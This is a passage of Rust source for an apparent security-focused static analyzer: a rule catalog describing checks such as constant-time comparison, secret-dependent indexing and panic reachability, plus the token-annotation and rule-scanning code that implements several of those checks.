telemetry-export sink, directly or through one bare-argument call hop. Secrets in \
logs outlive every other control. Fix: log lengths, hashes, or redacted forms; never \
the material itself.",
            Rule::R9DiscardedResult => "R9 flags a `Result` returned by a \
security-critical crate (`crypto`, `netsec`, `secureboot`, `fim`) discarded via \
`let _ =` or a bare `call();`. A dropped verification error is a silent \
authentication bypass. Fix: propagate with `?`, match on it, or handle the error \
branch explicitly.",
            Rule::R10SecretBranch => "R10 flags `if`/`match`/`while` conditions that \
depend on secret material (secret-typed or secret-named values from the taint \
registry), directly or one call hop away through a callee that branches on the \
passed parameter. Branching on a secret makes the instruction stream — and thus \
time, cache and branch-predictor state — a function of the secret. Fix: compute \
both arms and select with `ct::select`, or restructure so only public data steers \
control flow. Deliberate sites: `// genio-analyzer: allow(R10, reason = \"...\")` on \
or directly above the line. Public projections (`.len()`, `.is_empty()`) stay \
silent.",
            Rule::R11SecretIndex => "R11 flags slice/array indexing driven by secret \
material (`table[key_byte]`): memory addresses become secret-dependent and leak \
through cache timing — the classic AES T-table attack. Fix: mask to a fixed small \
range, scan the whole table with `ct::select`, or use a bitsliced formulation. \
Deliberate table-driven code paths: `// genio-analyzer: allow(R11, reason = \
\"...\")` at the exact line — never a file-wide allowlist.",
            Rule::R12VariableTimeOp => "R12 flags variable-time operations on secret \
material: `/` and `%` (data-dependent latency on most cores) and early-exit \
`==`/`!=` comparisons outside `genio_crypto::ct::eq`. Fix: replace division by \
constants with multiplication/shifts, compare through `ct::eq`, or annotate a \
deliberate site with `// genio-analyzer: allow(R12, reason = \"...\")`. Inside \
`crates/crypto`/`crates/netsec`, secret-*named* comparisons stay R2's finding; R12 \
adds the secret-*typed* and cross-crate cases.",
            Rule::R13LockOrderCycle => "R13 builds a lock-acquisition-order graph: \
an edge A -> B is recorded when lock B is acquired while guard A is still live \
(directly, or via a callee that acquires B transitively). A cycle means two \
executions can interleave into a deadlock. Guard scopes end at block close or \
`drop(guard)`. Fix: impose a total acquisition order, narrow guard scopes so they \
don't overlap, or merge the locks.",
            Rule::R14RelaxedSyncFlag => "R14 flags `Ordering::Relaxed` on an atomic \
that some function reads in a control-flow condition. A condition-read atomic is a \
sync flag: Relaxed provides no happens-before edge, so the guarded data may not be \
visible to the reader. Pure counters (only ever aggregated, never branched on) stay \
clean. Fix: use Release on the store and Acquire on the load, or SeqCst when in \
doubt.",
            Rule::R15DroppedSpan => "R15 flags a telemetry span guard that is dropped \
the moment it is created: `let _ = t.span(..)`, a bare `t.span(..);` / \
`t.span_at(..);` statement, or an unbound `span!(..);` invocation. `Span` measures \
via RAII — its `Drop` records the elapsed time — so a guard dropped at the creation \
site records a zero-length span and silently stops timing the scope it was meant to \
cover. Fix: bind the guard for the scope's lifetime (`let _guard_span = t.span(..);`) \
or delete the call. A guard consumed by an enclosing expression (`drop(..)`, \
`black_box(..)`, a return position) is a deliberate use and stays silent, as does a \
named `_`-prefixed binding.",
            Rule::R16PanicReachable => "R16 certifies panic-freedom of the declared \
hot-path entry points (`seal_many`/`open_many`, `run_shards`/`merge_shards`, \
`protect_many`/`validate_many`, `simulate_pon_fleet`). The pass takes the call-graph \
closure from every entry and flags any reachable `.unwrap()`/`.expect(..)`, \
`panic!`-family macro, or dynamically-indexed slice access whose dominating guard \
cannot be discharged path-sensitively: an `is_some`/`is_ok` check only covers the \
branch it dominates (the `if` body, or — when the body diverges — the rest of the \
enclosing block), and an index is clean only when a bounds guard dominates it or the \
interprocedural mask/loop-bound/all-callers evidence proves it in range on every \
path. A panic anywhere in that closure is an availability defect: one malformed \
frame aborts the data plane. Fix: return a typed error, restructure so the guard \
dominates every path, or suppress with a reviewed `allow(R16, reason)`.",
            Rule::R17SecretLifecycle => "R17 tracks the lifecycle of secret-typed \
values (the R8 registry: key/nonce/tag/secret types from `crypto`/`netsec`, plus \
secret-named byte buffers). Two shapes are flagged: (a) a secret escaping into a \
long-lived collection — passed bare to `.push(..)`/`.insert(..)`/`.extend(..)` — \
which defeats scoped zeroization and extends the secret's residency window; and \
(b) a key/session teardown path (function named `*teardown*`, `*close*`, \
`*rekey*`, `*destroy*`, `*retire*`, `*wipe*`, or exactly `drop`/`reset`) that \
drops a secret parameter without scrubbing it via `.zeroize()` or `.fill(0)`. \
Fix: store key handles instead of key bytes, and scrub secrets in teardown before \
they go out of scope.",
            Rule::R18DiffAware => "R18 is the diff-aware incremental scanning \
family. It never fires on a full scan; it tags the machinery behind `--diff \
<git-ref>` (emit only findings *introduced* since the base revision, computed by \
re-scanning the base contents of changed files plus their call-graph dependents \
and diffing the line-free finding multisets) and the `genio-analyzer-sarif/v1` \
export (`--sarif <path>`) for CI interop. Registering it as a rule keys the \
diff/SARIF document shapes into `rules_version()`, so warm caches written by an \
analyzer with different diff semantics are invalidated rather than trusted.",
        }
    }
}

/// FNV-1a 64 hash over every rule's id, title and catalog text — the
/// rule-set version stamped into the scan cache. Any change to what a
/// rule means changes this value and invalidates warm caches written by
/// the previous analyzer ([`crate::cache`]).
pub fn rules_version() -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    let mut eat = |s: &str| {
        for b in s.bytes() {
            h ^= u64::from(b);
            h = h.wrapping_mul(0x0000_0100_0000_01b3);
        }
        h ^= 0xff;
        h = h.wrapping_mul(0x0000_0100_0000_01b3);
    };
    for rule in Rule::ALL {
        eat(rule.id());
        eat(rule.title());
        eat(rule.explain());
    }
    h
}

/// One parsed `// genio-analyzer: allow(R11, reason = "...")` comment.
///
/// Line-scoped by design: a trailing comment suppresses its own line, a
/// standalone comment suppresses the next line, nothing else — so a
/// suppression can never quietly swallow findings elsewhere in the file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Allow {
    /// 1-based line of the comment.
    pub line: u32,
    /// Rules the comment suppresses.
    pub rules: Vec<Rule>,
    /// Mandatory human rationale (empty reasons are rejected by the
    /// parser, leaving the comment inert).
    pub reason: String,
}

impl Allow {
    /// Does this allow suppress a `rule` finding at `line` of the same
    /// file? Trailing comments share the line; standalone comments cover
    /// exactly the next line.
    pub fn covers(&self, rule: Rule, line: u32) -> bool {
        self.rules.contains(&rule) && (line == self.line || line == self.line + 1)
    }
}

/// Collects every well-formed suppression comment in the file. An
/// unknown rule id anywhere in the list makes the whole comment inert
/// (never best-effort-honoured), matching the lexer's strictness on the
/// rest of the syntax.
pub fn collect_allows(ann: &Annotated) -> Vec<Allow> {
    ann.comments
        .iter()
        .filter_map(|c| {
            let (ids, reason) = crate::lexer::parse_allow(&c.text)?;
            let rules: Vec<Rule> = ids.iter().filter_map(|i| Rule::from_id(i)).collect();
            if rules.len() != ids.len() {
                return None;
            }
            Some(Allow { line: c.line, rules, reason })
        })
        .collect()
}

/// One analyzer finding.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Finding {
    /// Violated rule.
    pub rule: Rule,
    /// Repo-relative file path (forward slashes).
    pub file: String,
    /// 1-based line (human navigation only; not part of the ratchet key).
    pub line: u32,
    /// Enclosing function, `-` at item level.
    pub function: String,
    /// Stable, line-free description (part of the ratchet key).
    pub detail: String,
    /// For R4/R5: did the sast taint bridge confirm reachability?
    pub confirmed: Option<bool>,
}

/// A (possibly guarded) parser-input access that [`crate::bridge`]
/// lowers into the `genio_appsec::sast` IR and [`crate::dataflow`]
/// re-examines across function boundaries.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Access {
    /// Enclosing function.
    pub function: String,
    /// Variable the access reads (`buf` in `buf[i]`, cast subject for R4).
    pub var: String,
    /// Whether a bounds guard dominates the access lexically.
    pub guarded: bool,
    /// Which rule produced the access.
    pub rule: Rule,
    /// 1-based line of the access; pairs it with its finding.
    pub line: u32,
    /// `& <literal>` mask applied at the top level of the index
    /// expression, if any (`s[(x >> 16) & 0xff]` records `0xff`).
    pub masked: Option<u64>,
    /// The sole identifier driving the index when its shape is `v` or
    /// `v - x` (after stripping casts, parens and the mask).
    pub index_ident: Option<String>,
    /// `(lower, upper)` bound token text of the innermost enclosing
    /// `for` loop binding [`Access::index_ident`].
    pub loop_bounds: Option<(String, String)>,
}

/// What the scanner knows about the file being checked.
#[derive(Debug, Clone)]
pub struct FileContext<'a> {
    /// Crate directory name (`crypto`, `pon`, …; `genio` for the root
    /// facade).
    pub crate_name: &'a str,
    /// Repo-relative path, forward slashes.
    pub rel_path: &'a str,
    /// Base file name (`gcm.rs`).
    pub file_name: &'a str,
}

/// Crates whose secret comparisons must be constant-time (R2).
const R2_CRATES: &[&str] = &["crypto", "netsec"];

/// Frame/feed parser crates narrowed casts are flagged in (R4).
const R4_CRATES: &[&str] = &["pon", "netsec", "vulnmgmt"];

/// AEAD/frame hot-path files checked for unguarded indexing (R5).
const R5_FILES: &[(&str, &str)] = &[
    ("crypto", "gcm.rs"),
    ("crypto", "aes.rs"),
    ("pon", "frame.rs"),
    ("pon", "security.rs"),
    ("netsec", "macsec.rs"),
];

/// Files allowed to read the OS clock directly (R7): the telemetry
/// clock abstraction itself, and the testkit bench harness that measures
/// wall time by design.
const R7_ALLOWED: &[(&str, &str)] = &[("telemetry", "clock.rs"), ("testkit", "bench.rs")];

/// Identifier segments that mark secret material for R2.
const SECRET_SEGMENTS: &[&str] = &[
    "tag", "icv", "mac", "digest", "key", "secret", "password", "finished",
];

/// Narrowing cast targets for R4 (≤32-bit; widening to u64/usize is not
/// flagged — the scanner has no type info, so this errs on silence).
const NARROW_TARGETS: &[&str] = &["u8", "u16", "u32", "i8", "i16", "i32"];

/// R1-flagged macro names (when followed by `!`).
pub(crate) const PANIC_MACROS: &[&str] = &["panic", "unreachable", "todo", "unimplemented"];

/// Keywords that can precede `[` without being an indexed variable.
const KEYWORDS: &[&str] = &[
    "as", "async", "await", "box", "break", "const", "continue", "crate", "dyn",
    "else", "enum", "fn", "for", "if", "impl", "in", "let", "loop", "match",
    "mod", "move", "mut", "pub", "ref", "return", "static", "struct", "super",
    "trait", "type", "unsafe", "use", "where", "while",
];

/// Is `text` a Rust keyword the call/index scanners must not treat as a
/// name?
pub(crate) fn is_keyword(text: &str) -> bool {
    KEYWORDS.contains(&text)
}

/// Is this file on the R5 hot-path indexing list? The R16 closure skips
/// index sites here — R5 already owns them finding-for-finding.
pub(crate) fn is_r5_file(crate_name: &str, rel_path: &str) -> bool {
    let file_name = rel_path.rsplit('/').next().unwrap_or(rel_path);
    R5_FILES
        .iter()
        .any(|&(c, f)| c == crate_name && f == file_name)
}

/// Token stream annotated with test-exclusion ranges, enclosing-function
/// attribution and bounds-guard sites.
pub struct Annotated {
    /// Non-comment tokens, source order.
    pub code: Vec<Token>,
    /// Comment tokens, source order.
    pub comments: Vec<Token>,
    /// Per `code` index: inside a `#[cfg(test)]` / `#[test]` item?
    pub excluded: Vec<bool>,
    /// Per `code` index: index into `fn_names`.
    pub fn_of: Vec<usize>,
    /// Function-name table; entry 0 is `-` (item level).
    pub fn_names: Vec<String>,
    /// `(code index, variable)` sites where a bounds guard was seen
    /// (`var.len()`, `var.get(..)`, `var.iter()`).
    pub guards: Vec<(usize, String)>,
    /// `(code index, variable)` sites where an option/result guard was
    /// seen (`var.is_some()`, `var.is_ok()`) — kept separate from
    /// `guards` so bounds discharge (R4/R5) is never blessed by an
    /// unrelated Option check. Consumed by the R16 panic-freedom pass.
    pub opt_guards: Vec<(usize, String)>,
    /// Dominance scope of every entry in `guards`, branch/loop/
    /// early-return aware ([`crate::cfg`]).
    pub scopes: Vec<crate::cfg::GuardScope>,
    /// Dominance scope of every entry in `opt_guards`.
    pub opt_scopes: Vec<crate::cfg::GuardScope>,
    /// Loop variables bound by a *literal* range (`for r in 1..4`), as
    /// `(var, first code index, last code index)` of the loop body —
    /// indexing through them is statically in-bounds for fixed-size
    /// state arrays, so R5 treats them like literal indices.
    pub bounded: Vec<(String, usize, usize)>,
    /// Every `for VAR in LOWER..UPPER { … }` loop, literal-bounded or
    /// not, with the bound expressions as joined token text — the
    /// interprocedural pass compares `UPPER` against workspace constants
    /// and allocation sizes to discharge R5 findings.
    pub loops: Vec<LoopInfo>,
}

/// One `for` loop over a range, recorded by [`annotate`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct LoopInfo {
    /// Loop variable.
    pub var: String,
    /// Lower bound, token text joined without spaces (`nk`, `0`).
    pub lower: String,
    /// Upper bound, token text joined without spaces (`4*(nr+1)`).
    pub upper: String,
    /// First code index of the loop body.
    pub body_start: usize,
    /// Last code index of the loop body.
    pub body_end: usize,
}

/// Builds the annotation in a single forward walk.
pub fn annotate(tokens: Vec<Token>) -> Annotated {
    let (code, comments): (Vec<Token>, Vec<Token>) = tokens
        .into_iter()
        .partition(|t| t.kind != TokenKind::Comment);

    let n = code.len();
    let mut excluded = vec![false; n];
    let mut fn_of = vec![0usize; n];
    let mut fn_names = vec!["-".to_string()];
    let mut guards = Vec::new();
    let mut opt_guards = Vec::new();

    let mut depth = 0usize;
    // `(`/`[` nesting, so the `;` inside `fn f(a: [u8; N])` or
    // `-> [u8; N]` is not mistaken for an item-ending semicolon.
    let mut paren = 0i64;
    let mut exclude_depth: Option<usize> = None;
    let mut pending_test = false;
    let mut pending_fn: Option<String> = None;
    let mut fn_stack: Vec<(usize, usize)> = Vec::new(); // (name idx, depth)

    let mut i = 0;
    while i < n {
        let t = &code[i];
        let text = t.text.as_str();

        // Outer attribute: `#[ ... ]` — detect test gating.
        if text == "#" && i + 1 < n && code[i + 1].text == "[" {
            let mut j = i + 2;
            let mut brackets = 1usize;
            let mut attr = String::new();
            while j < n && brackets > 0 {
                match code[j].text.as_str() {
                    "[" => brackets += 1,
                    "]" => brackets -= 1,
                    s if brackets > 0 => attr.push_str(s),
                    _ => {}
                }
                j += 1;
            }
            if attr == "test" || attr.starts_with("cfg(test") || attr.starts_with("cfg(all(test")
            {
                pending_test = true;
            }
            for k in i..j {
                fn_of[k] = fn_stack.last().map(|&(idx, _)| idx).unwrap_or(0);
                excluded[k] = exclude_depth.is_some();
            }
            i = j;
            continue;
        }

        match text {
            "{" => {
                depth += 1;
                // A `#[test]` inside an already-excluded `#[cfg(test)]`
                // module must still be consumed here, or it would leak
                // onto the next item after the module closes.
                if pending_test {
                    if exclude_depth.is_none() {
                        exclude_depth = Some(depth);
                    }
                    pending_test = false;
                }
                if let Some(name) = pending_fn.take() {
                    fn_names.push(name);
                    fn_stack.push((fn_names.len() - 1, depth));
                }
            }
            "}" => {
                if let Some(&(_, d)) = fn_stack.last() {
                    if d == depth {
                        fn_stack.pop();
                    }
                }
                excluded[i] = exclude_depth.is_some();
                if exclude_depth == Some(depth) {
                    exclude_depth = None;
                }
                fn_of[i] = fn_stack.last().map(|&(idx, _)| idx).unwrap_or(0);
                depth = depth.saturating_sub(1);
                i += 1;
                continue;
            }
            "(" | "[" => paren += 1,
            ")" | "]" => paren -= 1,
            ";" if paren == 0 => {
                // Attribute applied to a non-braced item (`use`, decl).
                if exclude_depth.is_none() {
                    pending_test = false;
                }
                pending_fn = None;
            }
            "fn" if i + 1 < n && code[i + 1].kind == TokenKind::Ident => {
                pending_fn = Some(code[i + 1].text.clone());
            }
            _ => {}
        }

        // Bounds-guard site: `var.len` / `var.get` / `var.iter`.
        if t.kind == TokenKind::Ident
            && i + 2 < n
            && code[i + 1].text == "."
            && matches!(code[i + 2].text.as_str(), "len" | "get" | "iter" | "is_empty")
        {
            guards.push((i, text.to_string()));
        }

        // Option/Result guard site: `var.is_some()` / `var.is_ok()` —
        // the R16 pass discharges a dominated `var.unwrap()` with these.
        if t.kind == TokenKind::Ident
            && i + 2 < n
            && code[i + 1].text == "."
            && matches!(code[i + 2].text.as_str(), "is_some" | "is_ok")
        {
            opt_guards.push((i, text.to_string()));
        }

        // Comparison guard on the *index* side: `i < buf.len()` (or
        // `buf.len() > i`) also bounds `i`, which the caller-guard
        // propagation in `crate::dataflow` needs when `i` is later
        // passed to an indexing callee.
        if t.kind == TokenKind::Ident {
            let lt_len = i + 4 < n
                && code[i + 1].text == "<"
                && code[i + 2].kind == TokenKind::Ident
                && code[i + 3].text == "."
                && matches!(code[i + 4].text.as_str(), "len");
            let len_gt = i >= 6
                && code[i - 1].text == ">"
                && code[i - 2].text == ")"
                && code[i - 3].text == "("
                && code[i - 4].text == "len"
                && code[i - 5].text == "."
                && code[i - 6].kind == TokenKind::Ident;
            if lt_len || len_gt {
                guards.push((i, text.to_string()));
            }
        }

        excluded[i] = exclude_depth.is_some();
        fn_of[i] = fn_stack.last().map(|&(idx, _)| idx).unwrap_or(0);
        i += 1;
    }

    // Second, cheap pass: `for VAR in LOWER..UPPER` loops. Every range
    // loop is recorded (for the interprocedural bound comparisons);
    // loops whose range is *literal-only* additionally land in
    // `bounded` — `for r in 1..4 {` pins `r` at compile time, so
    // indexing fixed-size state through it cannot go out of bounds.
    let mut bounded = Vec::new();
    let mut loops = Vec::new();
    i = 0;
    while i < n {
        if code[i].text == "for"
            && code.get(i + 1).is_some_and(|t| t.kind == TokenKind::Ident)
            && code.get(i + 2).map(|t| t.text.as_str()) == Some("in")
        {
            let var = code[i + 1].text.clone();
            let mut j = i + 3;
            let mut saw_range = false;
            let mut literal_only = true;
            let mut lower = String::new();
            let mut upper = String::new();
            let mut parens = 0usize;
            while j < n && !(parens == 0 && code[j].text == "{") {
                match code[j].text.as_str() {
                    ".." | "..=" if parens == 0 => saw_range = true,
                    s => {
                        match s {
                            "(" | "[" => parens += 1,
                            ")" | "]" => parens = parens.saturating_sub(1),
                            _ => {}
                        }
                        if code[j].kind != TokenKind::Num && !matches!(s, "(" | ")") {
                            literal_only = false;
                        }
                        if saw_range {
                            upper.push_str(s);
                        } else {
                            lower.push_str(s);
                        }
                    }
                }
                j += 1;
            }
            if saw_range && j < n {
                let start = j + 1;
                let mut body_depth = 1usize;
                let mut k = start;
                while k < n && body_depth > 0 {
                    match code[k].text.as_str() {
                        "{" => body_depth += 1,
                        "}" => body_depth -= 1,
                        _ => {}
                    }
                    k += 1;
                }
                let body_end = k.saturating_sub(1);
                if literal_only {
                    bounded.push((var.clone(), start, body_end));
                }
                loops.push(LoopInfo { var, lower, upper, body_start: start, body_end });
            }
        }
        i += 1;
    }

    let scopes = crate::cfg::compute_scopes(&code, &guards);
    let opt_scopes = crate::cfg::compute_scopes(&code, &opt_guards);
    Annotated {
        code,
        comments,
        excluded,
        fn_of,
        fn_names,
        guards,
        opt_guards,
        scopes,
        opt_scopes,
        bounded,
        loops,
    }
}

impl Annotated {
    pub(crate) fn fn_name(&self, i: usize) -> &str {
        &self.fn_names[self.fn_of[i]]
    }

    /// Does a bounds guard on `var` *dominate* code index `i` (same
    /// function, and `i` inside the guard's control-flow scope)? Until
    /// v3 this was a flat "any earlier mention" test; it now consults
    /// the per-guard dominance scopes from [`crate::cfg`], so `if i <
    /// buf.len() { buf[i] } else { buf[i] }` discharges only the
    /// checked arm.
    pub(crate) fn guarded_before(&self, i: usize, var: &str) -> bool {
        let f = self.fn_of[i];
        self.scopes
            .iter()
            .any(|s| s.var == var && s.covers(i) && self.fn_of[s.pos] == f)
    }

    /// Does an `is_some`/`is_ok` guard on `var` dominate code index `i`?
    pub(crate) fn opt_guarded_before(&self, i: usize, var: &str) -> bool {
        let f = self.fn_of[i];
        self.opt_scopes
            .iter()
            .any(|s| s.var == var && s.covers(i) && self.fn_of[s.pos] == f)
    }

    /// Is `name` a literal-range loop variable at code index `i`?
    pub(crate) fn is_literal_bounded(&self, i: usize, name: &str) -> bool {
        self.bounded
            .iter()
            .any(|&(ref v, s, e)| v == name && s <= i && i <= e)
    }
}

/// Does the (crate-root) token stream carry `#![forbid(unsafe_code)]`?
pub fn has_forbid_unsafe(tokens: &[Token]) -> bool {
    tokens.windows(4).any(|w| {
        w[0].text == "forbid"
            && w[1].text == "("
            && w[2].text == "unsafe_code"
            && w[3].text == ")"
    })
}

/// Runs every per-file rule. Returns the findings plus the R4/R5 access
/// records for the sast bridge (R3 is a per-crate rule and lives in
/// [`crate::workspace`]).
pub fn scan_tokens(ctx: &FileContext<'_>, ann: &Annotated) -> (Vec<Finding>, Vec<Access>) {
    let mut findings = Vec::new();
    let mut accesses = Vec::new();

    rule_r1(ctx, ann, &mut findings);
    if R2_CRATES.contains(&ctx.crate_name) {
        rule_r2(ctx, ann, &mut findings);
    }
    if R4_CRATES.contains(&ctx.crate_name) {
        rule_r4(ctx, ann, &mut findings, &mut accesses);
    }
    if R5_FILES
        .iter()
        .any(|&(c, f)| c == ctx.crate_name && f == ctx.file_name)
    {
        rule_r5(ctx, ann, &mut findings, &mut accesses);
    }
    rule_r6(ctx, ann, &mut findings);
    rule_r15(ctx, ann, &mut findings);
    if !R7_ALLOWED
        .iter()
        .any(|&(c, f)| c == ctx.crate_name && f == ctx.file_name)
    {
        rule_r7(ctx, ann, &mut findings);
    }

    (findings, accesses)
}

fn push(
    findings: &mut Vec<Finding>,
    ctx: &FileContext<'_>,
    rule: Rule,
    line: u32,
    function: &str,
    detail: String,
) {
    findings.push(Finding {
        rule,
        file: ctx.rel_path.to_string(),
        line,
        function: function.to_string(),
        detail,
        confirmed: None,
    });
}

fn rule_r1(ctx: &FileContext<'_>, ann: &Annotated, findings: &mut Vec<Finding>) {
    let code = &ann.code;
    for i in 0..code.len() {
        if ann.excluded[i] || code[i].kind != TokenKind::Ident {
            continue;
        }
        let text = code[i].text.as_str();
        let prev = i.checked_sub(1).map(|p| code[p].text.as_str());
        let next = code.get(i + 1).map(|t| t.text.as_str());
        let detail = if text == "unwrap" && prev == Some(".") && next == Some("(") {
            "call to .unwrap()".to_string()
        } else if text == "expect"
            && prev == Some(".")
            && next == Some("(")
            && code.get(i + 2).is_some_and(|t| t.kind == TokenKind::Str)
        {
            "call to .expect(..)".to_string()
        } else if PANIC_MACROS.contains(&text) && next == Some("!") && prev != Some("::") {
            format!("{text}! macro")
        } else {
            continue;
        };
        push(findings, ctx, Rule::R1PanicPath, code[i].line, ann.fn_name(i), detail);
    }
}

/// Span-guard constructors whose return value must outlive the scope it
/// times (R15).
const R15_SPAN_CALLS: &[&str] = &["span", "span_at"];

fn rule_r15(ctx: &FileContext<'_>, ann: &Annotated, findings: &mut Vec<Finding>) {
    let code = &ann.code;
    for i in 0..code.len() {
        if ann.excluded[i]
            || code[i].kind != TokenKind::Ident
            || !R15_SPAN_CALLS.contains(&code[i].text.as_str())
        {
            continue;
        }
        let prev = i.checked_sub(1).map(|p| code[p].text.as_str());
        if prev == Some("fn") {
            continue; // a definition of `span`/`span_at`, not a call
        }
        // `span(..)` / `span_at(..)` call, or `span!(..)` invocation.
        let open = match code.get(i + 1).map(|t| t.text.as_str()) {
            Some("(") => i + 1,
            Some("!") if code.get(i + 2).is_some_and(|t| t.text == "(") => i + 2,
            _ => continue,
        };
        // Matching close paren of the argument list.
        let mut depth = 0i64;
        let mut close = None;
        for (j, t) in code.iter().enumerate().skip(open) {
            match t.text.as_str() {
                "(" => depth += 1,
                ")" => {
                    depth -= 1;
                    if depth == 0 {
                        close = Some(j);
                        break;
                    }
                }
                _ => {}
            }
        }
        let Some(close) = close else { continue };
        // Only a guard that ends its own statement can drop on the spot;
        // one consumed by an enclosing expression (`drop(..)`,
        // `black_box(..)`, a tail/return position) is deliberate.
        if code.get(close + 1).map(|t| t.text.as_str()) != Some(";") {
            continue;
        }
        // Back-walk to the statement start to see how (if) it is bound.
        let mut start = 0usize;
        for j in (0..i).rev() {
            if matches!(code[j].text.as_str(), ";" | "{" | "}") {
                start = j + 1;
                break;
            }
        }
        let stmt: Vec<&str> = code[start..i].iter().map(|t| t.text.as_str()).collect();
        let display = if open == i + 2 {
            format!("{}!(..)", code[i].text)
        } else {
            format!("{}(..)", code[i].text)
        };
        let detail = if stmt.first() == Some(&"let") {
            // A named binding (even `_guard`) lives to end of scope;
            // exactly `_` drops immediately.
            if stmt.get(1) == Some(&"_") && stmt.get(2) == Some(&"=") {
                format!("span guard from {display} bound to _")
            } else {
                continue;
            }
        } else if stmt.contains(&"=") {
            continue; // assigned to a place that outlives the statement
        } else {
            format!("span guard from {display} dropped immediately")
        };
        push(findings, ctx, Rule::R15DroppedSpan, code[i].line, ann.fn_name(i), detail);
    }
}

/// Does `ident` contain a secret-material segment as a whole `_`-separated
/// word (`public_key` yes, `macsec` no)?
pub(crate) fn has_secret_segment(ident: &str) -> bool {
    ident
        .split('_')
        .any(|seg| SECRET_SEGMENTS.contains(&seg.to_ascii_lowercase().as_str()))
}

fn rule_r2(ctx: &FileContext<'_>, ann: &Annotated, findings: &mut Vec<Finding>) {
    let code = &ann.code;
    for i in 0..code.len() {
        if ann.excluded[i] || !matches!(code[i].text.as_str(), "==" | "!=") {
            continue;
        }
        // Collect operand identifiers in a small window around the
        // operator, bounded by statement/block punctuation.
        let mut involved: Option<String> = None;
        for dir in [-1i64, 1] {
            for step in 1..=8i64 {
                let j = i as i64 + dir * step;
                if j < 0 || j as usize >= code.len() {
                    break;
                }
                let t = &code[j as usize];
                if matches!(t.text.as_str(), ";" | "{" | "}") {
                    break;
                }
                if t.kind == TokenKind::Ident && has_secret_segment(&t.text) {
                    // A `.len()`-style projection compares public sizes.
                    let after = code.get(j as usize + 2).map(|t| t.text.as_str());
                    let is_len = code.get(j as usize + 1).map(|t| t.text.as_str())
                        == Some(".")
                        && matches!(after, Some("len" | "is_empty" | "capacity"));
                    if !is_len {
                        involved = Some(t.text.clone());
                        break;
                    }
                }
            }
            if involved.is_some() {
                break;
            }
        }
        if let Some(ident) = involved {
            push(
                findings,
                ctx,
                Rule::R2NonCtCompare,
                code[i].line,
                ann.fn_name(i),
                format!("`{}` compared on `{ident}` (use ct::eq)", code[i].text),
            );
        }
    }
}

fn rule_r4(
    ctx: &FileContext<'_>,
    ann: &Annotated,
    findings: &mut Vec<Finding>,
    accesses: &mut Vec<Access>,
) {
    let code = &ann.code;
    for i in 0..code.len() {
        if ann.excluded[i] || code[i].text != "as" || code[i].kind != TokenKind::Ident {
            continue;
        }
        let Some(target) = code.get(i + 1) else { continue };
        if !NARROW_TARGETS.contains(&target.text.as_str()) {
            continue;
        }
        // Cast subject: nearest identifier to the left (for the bridge).
        let var = i
            .checked_sub(1)
            .and_then(|p| {
                code[..=p]
                    .iter()
                    .rev()
                    .take(4)
                    .find(|t| t.kind == TokenKind::Ident)
            })
            .map(|t| t.text.clone())
            .unwrap_or_else(|| "expr".to_string());
        // Casting a literal narrows nothing worth flagging.
        if i >= 1 && code[i - 1].kind == TokenKind::Num {
            continue;
        }
        let function = ann.fn_name(i).to_string();
        push(
            findings,
            ctx,
            Rule::R4NarrowingCast,
            code[i].line,
            &function,
            format!("narrowing cast `as {}` of `{var}`", target.text),
        );
        accesses.push(Access {
            function,
            var: var.clone(),
            guarded: false,
            rule: Rule::R4NarrowingCast,
            line: code[i].line,
            masked: None,
            index_ident: Some(var),
            loop_bounds: None,
        });
    }
}

fn rule_r5(
    ctx: &FileContext<'_>,
    ann: &Annotated,
    findings: &mut Vec<Finding>,
    accesses: &mut Vec<Access>,
) {
    let code = &ann.code;
    for i in 0..code.len() {
        if ann.excluded[i]
            || code[i].kind != TokenKind::Ident
            || KEYWORDS.contains(&code[i].text.as_str())
            || code.get(i + 1).map(|t| t.text.as_str()) != Some("[")
        {
            continue;
        }
        // Walk the bracket; a purely literal index/range is static.
        let mut j = i + 2;
        let mut brackets = 1usize;
        let mut dynamic = false;
        let idx_start = i + 2;
        while j < code.len() && brackets > 0 {
            match code[j].text.as_str() {
                "[" => brackets += 1,
                "]" => brackets -= 1,
                // A cast suffix never adds dynamism, and literal-range
                // loop variables are as static as the literals bounding
                // them.
                "as" | "usize" => {}
                _ => {
                    if code[j].kind == TokenKind::Ident
                        && !ann.is_literal_bounded(j, &code[j].text)
                    {
                        dynamic = true;
                    }
                }
            }
            j += 1;
        }
        if !dynamic {
            continue;
        }
        let idx_end = j.saturating_sub(1); // exclusive: the closing `]`
        let (masked, index_ident) = index_shape(&code[idx_start..idx_end]);
        let loop_bounds = index_ident.as_deref().and_then(|v| {
            ann.loops
                .iter()
                .filter(|l| l.var == v && l.body_start <= i && i <= l.body_end)
                .max_by_key(|l| l.body_start) // innermost binding wins
                .map(|l| (l.lower.clone(), l.upper.clone()))
        });
        let var = code[i].text.clone();
        let function = ann.fn_name(i).to_string();
        let guarded = ann.guarded_before(i, &var);
        accesses.push(Access {
            function: function.clone(),
            var: var.clone(),
            guarded,
            rule: Rule::R5UnguardedIndex,
            line: code[i].line,
            masked,
            index_ident,
            loop_bounds,
        });
        if !guarded {
            push(
                findings,
                ctx,
                Rule::R5UnguardedIndex,
                code[i].line,
                &function,
                format!("dynamic index into `{var}` with no preceding bounds guard"),
            );
        }
    }
}

/// Shape analysis of an index expression (the tokens between `[` and
/// `]`): extracts a top-level `& <literal>` mask and, when the stripped
/// remainder is `v` or `v - x`, the driving identifier `v`.
pub(crate) fn index_shape(tokens: &[Token]) -> (Option<u64>, Option<String>) {
    let mut t: Vec<&Token> = tokens.iter().collect();
    // Drop cast suffixes (`as usize`, `as u32`, …).
    while t.len() >= 2 && t[t.len() - 2].text == "as" {
        t.truncate(t.len() - 2);
    }
    strip_outer_parens(&mut t);
    let mut masked = None;
    if t.len() >= 2
        && t[t.len() - 1].kind == TokenKind::Num
        && t[t.len() - 2].text == "&"
        && at_top_level(&t, t.len() - 2)
    {
        masked = parse_int(&t[t.len() - 1].text);
        t.truncate(t.len() - 2);
        strip_outer_parens(&mut t);
    }
    let index_ident = match t.as_slice() {
        [v] if v.kind == TokenKind::Ident => Some(v.text.clone()),
        [v, m, _] if v.kind == TokenKind::Ident && m.text == "-" => Some(v.text.clone()),
        _ => None,
    };
    (masked, index_ident)
}

/// Removes `( … )` pairs that wrap the whole expression.
fn strip_outer_parens(t: &mut Vec<&Token>) {
